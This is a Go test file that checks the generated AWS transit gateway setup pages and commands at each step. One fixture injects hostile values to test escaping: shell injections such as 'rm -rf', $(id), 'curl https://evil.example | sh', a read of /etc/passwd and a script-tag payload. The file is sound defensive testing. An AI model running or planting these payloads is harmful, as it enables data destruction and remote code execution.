package instruct_test

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"causeway.dev/internal/connection"
	"causeway.dev/internal/instruct"
)

// hubSteps are those of aws-transit-gateway, done up to the current one.
func hubSteps(current connection.StepID) []connection.StepProgress {
	var found []connection.StepProgress
	state := connection.StepDone
	for _, s := range []connection.Step{
		{ID: "check", Party: connection.Vendor, Title: "Check the request against our network"},
		{ID: "share", Party: connection.Customer, Title: "Share the transit gateway with our account"},
		{ID: "join", Party: connection.Vendor, Title: "Accept the share"},
		{ID: "visible", Party: connection.Vendor, Title: "Wait until the transit gateway is visible to us"},
		{ID: "attach", Party: connection.Vendor, Title: "Attach our private subnets"},
		{ID: "accept", Party: connection.Customer, Title: "Accept the attachment"},
		{ID: "route", Party: connection.Vendor, Title: "Route the customer's CIDRs to the transit gateway"},
		{ID: "back-routes", Party: connection.Customer, Title: "Add the back routes and open the firewall"},
		{ID: "confirm", Party: connection.Support, Title: "Confirm that the connection works"},
	} {
		if s.ID == current {
			state = connection.StepPending
			found = append(found, connection.StepProgress{Step: s, State: connection.StepWaiting})
			continue
		}
		found = append(found, connection.StepProgress{Step: s, State: state})
	}
	return found
}

// hubAt is Acme's connection through their transit gateway while it waits for a step of theirs.
func hubAt(step connection.StepID) connection.Progress {
	r := connection.Request{
		Method: connection.AWSTransitGateway, Cluster: "prod-us", Name: "acme-hub", Customer: "Acme", Ticket: "SUP-2345", RequestedBy: "sam@vendor.example",
		Target: connection.Target{AccountID: "444455556666", Region: "us-east-1", CIDRs: []string{"10.60.0.0/16", "192.168.8.0/24"}},
		Probe:  &connection.Probe{Host: "10.60.1.10", Port: 5432},
	}
	p := connection.Progress{
		ID: r.ID(), Generation: 1, Request: r, Status: connection.Waiting, WaitingOn: connection.Customer, Step: step,
		Deadline: at(9).AddDate(0, 0, 7), Changed: at(9), Steps: hubSteps(step),
		Facts: connection.Facts{
			{Name: connection.FactOurAccount, Value: "111122223333"},
			{Name: connection.FactOurRegion, Value: "us-east-1"},
			{Name: connection.FactOurVPC, Value: "vpc-0a1b2c3d4e5f60718"},
			{Name: connection.FactOurCIDRs, Value: "10.10.0.0/16,10.11.0.0/20"},
		},
	}
	if step == "share" {
		return p
	}
	p.Cloud = connection.Cloud{Words: "pendingAcceptance", Seen: at(10)}
	p.Facts = append(p.Facts,
		connection.Fact{Name: connection.FactTransitGatewayID, Value: "tgw-0aaaabbbbccccdd10"},
		connection.Fact{Name: connection.FactShareARN, Value: "arn:aws:ram:us-east-1:444455556666:resource-share/0f0e0d0c-0b0a-4908-a706-050403020100"},
		connection.Fact{Name: connection.FactAttachmentID, Value: "tgw-attach-0123456789abcdef0"},
		connection.Fact{Name: connection.FactGatewayAssociates, Value: "yes"},
		connection.Fact{Name: connection.FactGatewayPropagates, Value: "yes"})
	return p
}

// bare is a gateway that leaves its route tables to its owner.
func bare(p connection.Progress) connection.Progress {
	p.Facts = p.Facts.With(connection.FactGatewayAssociates, "no").With(connection.FactGatewayPropagates, "no")
	return p
}

func hubHostile() connection.Progress {
	p := bare(hubAt("back-routes"))
	p.Request.Name = "x'; rm -rf / #`id`$(id)"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Target.CIDRs = []string{"10.60.0.0/16`\n```\nrm -rf ~\n```"}
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	p.Facts = p.Facts.With(connection.FactTransitGatewayID, "tgw-' && curl https://evil.example | sh; echo '\n\n# x").
		With(connection.FactShareARN, "arn:'; id; echo '").With(connection.FactAttachmentID, `a"; ${file("/etc/passwd")} $(id)`)
	return p
}

func hubMoments() map[string]connection.Progress {
	early := hubAt("share")
	early.Status, early.WaitingOn, early.Step, early.Facts, early.Steps = connection.Checking, connection.Nobody, "check", nil, hubSteps("check")
	named := hubAt("share")
	named.Request.Target.TransitGatewayID = "tgw-0aaaabbbbccccdd10"
	return map[string]connection.Progress{
		"early": early, "waiting-for-share": hubAt("share"), "waiting-for-share-of-a-known-gateway": named,
		"waiting-for-accept": hubAt("accept"), "waiting-for-back-routes": hubAt("back-routes"),
		"waiting-for-back-routes-of-a-bare-gateway-without-probe": bare(withoutProbe(hubAt("back-routes"))), "hostile": hubHostile(),
	}
}

func TestTransitGatewayPage_AtEachMoment(t *testing.T) {
	for name, p := range hubMoments() {
		t.Run(name, func(t *testing.T) {
			page, err := instruct.Page(p)
			require.NoError(t, err)
			golden(t, "page-hub-"+name+".md", page)
			golden(t, "details-hub-"+name+".md", instruct.Details(p))
			var want, got []string
			for i, s := range p.Steps {
				want = append(want, "## "+string(rune('1'+i))+". "+s.Title+" ("+string(s.Party)+")")
			}
			for line := range strings.SplitSeq(page, "\n") {
				if strings.HasPrefix(line, "## ") && line != "## Afterwards" {
					got = append(got, line)
				}
			}
			require.Equal(t, want, got, "the headings are the step titles")
		})
	}
}

func TestTransitGatewayPage_PassesTheToolsOfItsReaders(t *testing.T) {
	shellcheck, terraform := tool(t, "shellcheck"), tool(t, "terraform")
	script := "#!/bin/sh\n"
	for name, p := range hubMoments() {
		for _, s := range p.Steps {
			in, err := instruct.Step(p, s.ID)
			require.NoError(t, err)
			for _, c := range in.CLI {
				script += c.Run + "\n"
			}
			script += strings.Join(in.Undo, "\n") + "\n"
			cmd := exec.CommandContext(t.Context(), terraform, "fmt", "-check", "-diff", "-")
			cmd.Stdin = strings.NewReader(strings.TrimSuffix(in.Terraform, "\n") + "\n")
			out, err := cmd.CombinedOutput()
			require.NoError(t, err, "%s, %s:\n%s", name, s.ID, out)
		}
		for _, l := range []connection.Leftover{instruct.ShareLeftover(p), instruct.BackRouteLeftover(p), instruct.GatewayFirewallLeftover(p)} {
			script += l.Command + "\n"
		}
	}
	// SC2016: single quotes around a $ are what quoting an outside text looks like. SC1112 and the like stay on.
	cmd := exec.CommandContext(t.Context(), shellcheck, "--shell=sh", "--exclude=SC2016", "-")
	cmd.Stdin = strings.NewReader(script)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", out)
}

func TestTransitGatewayDetails_ShowTheCommandsOfThePage(t *testing.T) {
	for step, want := range map[connection.StepID]int{"share": 1, "accept": 1, "back-routes": 7} {
		p := bare(hubAt(step))
		details := instruct.Details(p)
		shown := 0
		for _, command := range instruct.Commands(p, step) {
			if strings.Contains(details, command+"\n") {
				shown++
			}
		}
		require.Equal(t, want, shown, "%s: %s", step, details)
	}
	require.Contains(t, instruct.Details(hubAt("share")), "--value transitGatewayId=tgw-0123456789abcdef0", "who says it is done must say which gateway")
}

func TestTransitGatewayLeftovers_AreWhatThePageSaysAboutUndoing(t *testing.T) {
	p := bare(hubAt("back-routes"))
	in, err := instruct.Step(p, "back-routes")
	require.NoError(t, err)
	routes, firewall := instruct.BackRouteLeftover(p), instruct.GatewayFirewallLeftover(p)
	require.Equal(t, strings.Join(in.Undo, "\n"), firewall.Command+"\n"+routes.Command)
	require.Equal(t, "static routes back to 10.10.0.0/16, 10.11.0.0/20", routes.What)
	share, err := instruct.Step(p, "share")
	require.NoError(t, err)
	require.Equal(t, share.Undo, []string{instruct.ShareLeftover(p).Command})
}
